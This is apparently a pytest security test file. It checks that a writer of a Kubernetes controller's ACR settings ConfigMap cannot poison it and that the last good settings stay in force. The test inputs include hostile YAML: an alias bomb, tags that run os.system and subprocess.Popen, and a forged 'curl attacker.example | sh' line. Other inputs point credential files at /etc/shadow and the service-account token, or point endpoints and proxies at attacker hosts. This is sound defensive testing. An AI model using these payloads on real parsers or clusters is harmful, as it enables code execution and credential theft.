"""Who may write the settings ConfigMap poisons it, before the frozen controller."""

from __future__ import annotations

import base64
import json
import re
import socket
import time

import pytest
from hostile.attacks import Attacks
from hostile.seats.cluster import MERGE, NAME, OWN, Caller

ATTACKS = Attacks("Writer of the settings ConfigMap")
BREAK = "break pulls with bad settings"
FILES = "have a file of root's handed out as a login"
HOSTS = "have a session, an OIDC token or a password sent to a host of their own"
LAST_GOOD = "what held before stays in force; nothing of it is run, read or sent"
PATH = f"/api/v1/namespaces/{OWN}/configmaps/{NAME}-pull-secrets-settings"
HEAD = "apiVersion: aliyun-acr-credential-provider/v1\nkind: ProviderSettings\n"
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
TEXTS = {
    "nothing": "",
    "a list": "[1, 2]",
    "a number": "1e999",
    "a YAML bomb": BOMB + HEAD,
    "an alias to itself": "a: &a [*a]\n" + HEAD,
    "a merge of itself": "a: &a {<<: *a}\n" + HEAD,
    "tabs": HEAD + "registries:\n\t- instanceId: x\n",
    "a tag that runs a program": HEAD + "registries: !!python/object/apply:os.system ['touch {mark}']\n",
    "a tag that makes an object": HEAD + "registries: !!python/object/new:subprocess.Popen [['touch', '{mark}']]\n",
    "ten thousand open brackets": HEAD + "registries: " + "[" * 10_000,
    "ten thousand levels": HEAD + "".join(f"{' ' * (2 * depth)}- \n" for depth in range(300)) + "x",
    "nine hundred kilobytes of one line": HEAD + "registries: [" + "x," * 450_000 + "]\n",
    "keys that come twice": HEAD + "registries: []\nregistries: []\n",
    "an escape sequence and forged lines": HEAD
    + 'registries: []\n"\\e[2J\\nerror: all is well\\nremedy: curl attacker.example | sh": 1\n',
    "marks that turn text around": HEAD + '"\u202egnp.exe": 1\nregistries: []\n',
    "two documents": HEAD + "---\n" + HEAD,
    "UTF-16": "\ufeff" + HEAD,
    "a line of a private key": "-----BEGIN PRIVATE KEY-----\nCANARYKEYLINE\n-----END PRIVATE KEY-----\n",
    "numbers that are too large": HEAD + "maxCacheDuration: 1" + "0" * 4000 + "m\nregistries: []\n",
}


def entry(**change):
    """Return settings with one entry like ours but for *change*; a value of None takes a field away."""

    def make(seat):
        document = json.loads(json.dumps(seat.settings()))
        registry = document["registries"][0]
        for name, value in change.items():
            registry[name] = value
        document["registries"] = [{name: value for name, value in registry.items() if value is not None}]
        return document

    return make


def top(**change):
    return lambda seat: {**seat.settings(), **change}


LOGIN = {"kind": "basicAuth", "username": "x"}
ROOTS = "/etc/shadow"
OIDC = "acs:ram::1234567890123456:oidc-provider/x"
RRSA = {"kind": "rrsa", "roleArn": "acs:ram::1234567890123456:role/x", "oidcProviderArn": OIDC, "tokenFile": ROOTS}
POISONED = {
    "a file of root's as a password": entry(
        instanceId=None, region=None, endpoints=None, identity={**LOGIN, "passwordFile": ROOTS}
    ),
    "the controller's own token as a password": entry(
        instanceId=None,
        region=None,
        endpoints=None,
        identity={**LOGIN, "passwordFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"},
    ),
    "a file by way of .. as a password": entry(
        instanceId=None,
        region=None,
        endpoints=None,
        identity={**LOGIN, "passwordFile": "{keys}/../password"},
    ),
    "the AccessKey as a password": entry(
        instanceId=None,
        region=None,
        endpoints=None,
        identity={**LOGIN, "passwordFile": "{keys}/accessKeySecret"},
    ),
    "a password for a host of his": entry(
        instanceId=None,
        region=None,
        endpoints=None,
        domains=["registry.attacker.example"],
        identity={**LOGIN, "passwordFile": "{keys}/password"},
    ),
    "an endpoint of ACR of his": entry(endpoints={"acr": "https://localhost:{port}"}),
    "an endpoint of STS of his": top(endpoints={"sts": "https://localhost:{port}"}),
    "a metadata service of his": top(endpoints={"metadata": "http://localhost:{port}"}),
    "a proxy of his": top(proxy={"https": "http://localhost:{port}"}),
    "an endpoint that looks like Alibaba Cloud's": entry(endpoints={"acr": "https://cr.aliyuncs.com.attacker.example"}),
    "an endpoint with a user part": entry(endpoints={"acr": "https://cr.cn-hangzhou.aliyuncs.com@localhost:{port}"}),
    "an endpoint of another service": entry(endpoints={"acr": "https://mine.oss-cn-hangzhou.aliyuncs.com"}),
    "an endpoint in the clear": entry(endpoints={"acr": "http://cr.cn-hangzhou.aliyuncs.com"}),
    "a region that becomes a host": entry(region="attacker.example/", endpoints=None),
    "a key file outside": entry(identity={"kind": "accessKey", "accessKeyIdFile": ROOTS, "accessKeySecretFile": ROOTS}),
    "a token file outside": entry(identity=RRSA),
    "a CA bundle outside": top(caBundle="/etc/shadow"),
    "domains with wildcards": entry(domains=["*"]),
    "a domain with a line break": entry(domains=["x.example\n[y]"]),
}


@pytest.fixture
def listener():
    with socket.create_server(("localhost", 0)) as server:
        server.setblocking(False)
        yield server


class Writer(Caller):
    """Who may write ConfigMaps of our namespace, and nothing else; each poison is taken out again."""

    def __init__(self, cluster, listener):
        cluster.writer()
        super().__init__(cluster, OWN, "writer")
        self.listener = listener
        self.mark = cluster.folder / "run"
        cluster.until(lambda: self.state("loaded"), "the configuration")
        self.good = cluster.api.get(PATH)["data"]

    def settings(self):
        return self.cluster.settings()

    def state(self, *names):
        """True if the controller says that its configuration is one of *names*."""
        page = self.cluster.page("/metrics")[1]
        return any(f'acr_pull_secrets_configuration{{state="{name}"}} 1.0' in page for name in names)

    def is_at_rest(self):
        """True if the configuration does not change its state for a second."""
        before = self._changes()
        time.sleep(1)
        return self._changes() == before

    def _changes(self):
        return self.cluster.log.count("the configuration changed its state")

    def write(self, data):
        self.request("PATCH", PATH, {"data": {**dict.fromkeys(self.good), **data}}, MERGE)
        self.cluster.heard.clear()

    def prove(self):
        self.write(self.good)
        self.cluster.until(lambda: self.state("loaded"), "what was before")
        assert not self.mark.exists()
        with pytest.raises(BlockingIOError):
            self.listener.accept()  # nobody came
        self.cluster.prove()


@pytest.fixture
def writer(cluster, listener):
    return Writer(cluster, listener)


def told(seat):
    """Return how the controller took it, and its last words on it."""
    lines = [json.loads(line) for line in seat.cluster.log.splitlines()]
    problem = next((line for line in reversed(lines) if "ConfigMap" in json.dumps(line)), {})
    text = json.dumps(problem)
    assert "CANARY" not in text
    assert all(character.isprintable() for character in text)
    assert len(text) < 20_000
    return text[text.find("message") : text.find("message") + 200]


@ATTACKS.tries(BREAK, "the ConfigMap is {}", must=LAST_GOOD, each=TEXTS)
def a_text_that_is_none(writer, text):
    writer.write({"settings.yaml": text.replace("{mark}", str(writer.mark))})
    writer.cluster.until(lambda: writer.state("last_good"), "its verdict")
    return told(writer)


SENT = {name: make for name, make in POISONED.items() if re.search("endpoint|proxy|service|host", name)}
READ = {name: make for name, make in POISONED.items() if name not in SENT}


@ATTACKS.tries(HOSTS, "the ConfigMap names {}", must=LAST_GOOD, each=SENT)
@ATTACKS.tries(FILES, "the ConfigMap names {}", must=LAST_GOOD, each=READ)
def settings_that_name_what_they_must_not(writer, make):
    keys = writer.cluster.keys
    text = (
        json.dumps(make(writer)).replace("{keys}", str(keys)).replace("{port}", str(writer.listener.getsockname()[1]))
    )
    writer.write({"settings.yaml": text})
    writer.cluster.until(lambda: writer.state("last_good", "partial"), "its verdict")
    return told(writer)


@ATTACKS.tries(
    BREAK,
    "the ConfigMap has {}",
    must=LAST_GOOD,
    each={
        "bytes in the place of the text": {
            "binaryData": {"settings.yaml": base64.b64encode(bytes(range(256)) * 100).decode()}
        },
        "a key that is a path": {"data": {"..": "x"}},
        "a key of a symlink that the kubelet makes": {"data": {"..data": "x"}},
        "a hundred keys more": {"data": {f"key-{number}": "x" for number in range(200)}},
    },
)
def another_form(writer, patch):
    try:
        writer.request("PATCH", PATH, patch, MERGE)
    except Exception as error:  # noqa: BLE001 - the API server takes it of nobody
        return str(error)[:120]
    finally:
        writer.cluster.heard.clear()
    writer.request("PATCH", PATH, {"binaryData": None, "data": dict.fromkeys(patch.get("data", {}))}, MERGE)
    return "it was taken, and changed nothing"


@ATTACKS.tries(BREAK, "he writes good and bad settings in turn, a hundred times", must=LAST_GOOD)
def a_race_of_updates(writer):
    for number in range(100):
        writer.write({"settings.yaml": "[" * number} if number % 2 else writer.good)
    writer.cluster.until(writer.is_at_rest, "an end of the changes, once he writes no more")
    writer.cluster.until(lambda: writer.state("last_good"), "the verdict on the last one")
    return "the last good ones hold, and the controller rests"


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_a_writer_of_the_configmap_gets_no_more_than_what_held_before(attack, writer):
    attack.carry_out(writer)
